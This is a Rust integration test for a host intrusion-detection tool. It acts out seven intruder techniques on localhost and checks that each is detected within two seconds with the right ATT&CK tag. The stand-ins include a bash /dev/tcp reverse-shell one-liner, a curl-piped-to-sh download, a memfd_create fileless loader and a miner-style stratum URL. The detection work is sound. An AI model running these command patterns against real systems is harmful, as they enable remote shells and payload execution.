//! What intruders do becomes a finding with its technique within two seconds. Needs root and the real kernel.

#![expect(clippy::expect_used, reason = "tests fail by panicking")]

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use skep_tests::{PATIENCE, Skep, eventually};

/// From the event to its finding.
const WITHIN: Duration = Duration::from_secs(2);

const MEMFD: &str = "import os\nf = os.memfd_create('x')\nos.write(f, open('/bin/true', 'rb').read())\n\
    os.execve('/proc/self/fd/%d' % f, ['x'], {})";

const SCAN: &str = "import socket, sys\nfor port in range(20):\n    s = socket.socket()\n    s.settimeout(1)\n    \
    s.connect_ex(('127.0.0.1', 20000 + port))\n    s.close()";

fn run(program: &str, arguments: &[&str]) {
    // How it ends does not matter: what counts is that it ran.
    let mut command = Command::new(program);
    command.args(arguments).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    command.status().expect("it runs");
}

/// A copy of a program under another name.
fn copy(folder: &Path, program: &str, name: &str) -> PathBuf {
    let path = folder.join(name);
    std::fs::copy(program, &path).expect("the folder takes a program");
    path
}

/// `curl | sh`, the two ends of one pipe.
fn piped() {
    let mut curl = Command::new("curl").arg("file:///dev/null").stdout(Stdio::piped()).spawn().expect("curl");
    let stdout = curl.stdout.take().expect("its output");
    Command::new("sh").stdin(stdout).status().expect("sh");
    curl.wait().expect("curl ends");
}

/// A shell whose streams are a connection to us.
fn reverse_shell() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let script = format!("exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&1");
    let mut shell = Command::new("bash").args(["-c", &script]).stdin(Stdio::null()).spawn().expect("bash");
    drop(listener.accept().expect("it connects"));
    shell.wait().expect("it ends with its connection");
}

/// Waits for a finding by this rule, raised since, and how long after that it was raised.
fn found(skep: &Skep, rule: &str, technique: &str, since: SystemTime) {
    let since_us = since.duration_since(UNIX_EPOCH).expect("after 1970").as_micros();
    let sql = format!(
        "SELECT arrow_cast(min(time), 'Int64') - {since_us} AS after_us FROM findings \
         WHERE rule = '{rule}' AND array_has(attack, '{technique}') HAVING count(*) > 0"
    );
    let after_us = eventually(rule, PATIENCE, || skep.query(&sql).first().and_then(|row| row["after_us"].as_i64()));
    let after = Duration::from_micros(u64::try_from(after_us).expect("it comes after its cause"));
    assert!(after < WITHIN, "{rule} came after {after:?}");
}

#[test]
fn what_intruders_do_is_found_at_once_with_its_technique() {
    let data = tempfile::tempdir().expect("a folder");
    // Not below a hidden folder, which is a finding of its own.
    let folder = tempfile::Builder::new().prefix("intruder").tempdir().expect("a folder");
    let skep = Skep::up(data.path(), &[]);
    let nginx = copy(folder.path(), "/bin/bash", "nginx");
    let program = copy(folder.path(), "/bin/true", "x");
    let path = |path: &Path| path.to_string_lossy().into_owned();

    let cases: [(&str, &str, &dyn Fn()); 7] = [
        ("exec-memfd", "T1620", &|| run("python3", &["-c", MEMFD])),
        ("download-to-shell", "T1105", &piped),
        ("shell-inet-stdio", "T1059.004", &reverse_shell),
        ("server-spawns-shell", "T1505.003", &|| run(&path(&nginx), &["-c", "sh -c id; true"])),
        ("setuid-grant", "T1548.001", &|| run("chmod", &["4755", &path(&program)])),
        ("crypto-miner", "T1496", &|| run(&path(&program), &["-o", "stratum+tcp://127.0.0.1:3333"])),
        ("port-scan", "T1046", &|| run("python3", &["-c", SCAN])),
    ];
    for (rule, technique, act) in cases {
        let since = SystemTime::now();
        act();
        found(&skep, rule, technique, since);
    }
    // The same rules over what was recorded.
    let tried = skep.skep(&["rules", "test", "--since", "1h", "--format", "json"]);
    assert!(tried.status.success(), "{}", String::from_utf8_lossy(&tried.stderr));
    let alerts = String::from_utf8_lossy(&tried.stdout);
    for (rule, technique, _) in cases {
        let line = format!(r#""technique":"{technique}","rule":"{rule}","author":"the skep authors"}}"#);
        assert!(alerts.contains(&line), "{line} is not among {alerts}");
    }
    skep.stop();
}
